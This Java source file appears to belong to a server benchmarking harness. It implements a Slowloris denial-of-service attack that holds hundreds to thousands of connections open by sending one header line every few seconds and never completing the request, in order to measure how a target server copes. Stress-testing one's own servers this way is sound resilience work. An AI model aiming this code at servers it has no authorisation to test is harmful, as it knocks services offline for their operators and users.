package dev.addressable.bench.hostile;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.addressable.bench.load.EventLoop;
import java.nio.charset.StandardCharsets;

/**
 * Slowloris: {@code --slowloris} connections (default 500) each send a request line, then one more
 * header line every {@code --header-every-ms} (default 3,000), and never end the head. A server
 * with a thread or a fixed slot per connection being read runs out; an event-driven one holds
 * them as idle sockets until its header timeout.
 */
final class Slowloris implements Attack {

  private final Site site;
  private final EventLoop loop;
  private final Sources sources;
  private final int count;
  private final long everyMillis;
  private final Tally tally = new Tally();
  private Drip drip;
  private long openAtEnd;

  Slowloris(Site site, EventLoop loop, Sources sources, Settings s) {
    this.site = site;
    this.loop = loop;
    this.sources = sources;
    this.count = s.count("slowloris", 500, 15_000);
    this.everyMillis = s.number("header-every-ms", 3000, 100, 60_000);
  }

  @Override
  public String name() {
    return "slowloris";
  }

  @Override
  public void prepare() {
    // nothing to set up: the request never gets far enough to name a channel
  }

  @Override
  public void start() {
    drip = new Drip(loop, site, sources, count, everyMillis, new Drip.Script() {
      @Override
      public byte[] opening(int index) {
        return ("GET " + site.healthPath() + " HTTP/1.1\r\nHost: " + site.hostPort + "\r\n")
            .getBytes(StandardCharsets.US_ASCII);
      }

      @Override
      public byte[] piece(int index, long n) {
        return ("X-Slow-" + n + ": " + index + "\r\n").getBytes(StandardCharsets.US_ASCII);
      }
    }, tally);
    drip.start();
  }

  @Override
  public String progress() {
    return drip.open() + "/" + count + " unfinished heads open";
  }

  @Override
  public void stop() throws InterruptedException {
    openAtEnd = drip.open();
    drip.stop();
  }

  @Override
  public void writeTo(ObjectNode figures) {
    tally.writeTo(figures);
    figures.put("summary", Summaries.held(count + " unfinished heads (a header line every " + everyMillis + " ms)",
        openAtEnd, tally));
  }
}
